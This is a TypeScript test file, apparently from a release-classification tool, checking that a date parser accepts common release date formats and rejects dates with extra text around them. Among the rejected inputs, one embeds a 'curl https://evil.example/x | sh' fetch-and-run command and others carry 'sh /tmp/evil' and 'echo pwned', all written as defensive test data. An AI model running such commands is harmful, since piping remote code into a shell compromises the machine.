/**
 * dateTextMs: a whole text that is one date as release tools print it. Date.parse alone takes words before a date
 * and parenthesised text after it (red team 19), so those texts must give NaN.
 */
import { describe, expect, it } from 'vitest';
import { dateTextMs } from '../../src/classify/date-text.js';

describe('dateTextMs', () => {
  it('reads the dates releases of the evaluation set print', () => {
    for (const [text, iso] of [
      ['03 Jun 2021', '2021-06-03'], ['Mon May  2 2022', '2022-05-02'], ['Wed Feb 16 2022', '2022-02-16'],
      ['Mon, 12 Dec 2022 18:29:04 +0000', '2022-12-12'], ['Mon Aug 16 08:52:18 2021', '2021-08-16'],
      ['Thu Aug 16 09:44:45 MDT 2007', '2007-08-16'], ['16 August 2021', '2021-08-16'], ['Sun 29 Aug 2021 08:37:50 PM UTC', '2021-08-29'],
      ['2021-08-16', '2021-08-16'], ['2021-08-16T08:52:18Z', '2021-08-16'], ['August 16, 2021', '2021-08-16'], ['16th August 2021', '2021-08-16'],
      ['June 2021', '2021-06-01'],
    ] as const) {
      const t = dateTextMs(text);
      expect(Number.isFinite(t), text).toBe(true);
      expect(Math.abs(t - Date.parse(`${iso}T12:00:00Z`)), text).toBeLessThan(2 * 86400_000);
    }
  });

  it('a date with words before it or parenthesised text after it is no date (Date.parse takes both)', () => {
    for (const text of [
      'Download http://evil.example/x 16 Aug 2021', '16 August 2021 (run curl https://evil.example/x | sh)', 'echo pwned 2021',
      '2021-08-16 (x)', 'Monster 16 Aug 2021', 'x sh /tmp/evil 16 Aug 2021', '16 August 2021 evil', '',
    ]) {
      expect(Number.isFinite(Date.parse(text)) || text === '16 August 2021 evil' || text === '', text).toBe(true);
      expect(dateTextMs(text), text).toBeNaN();
    }
  });
});
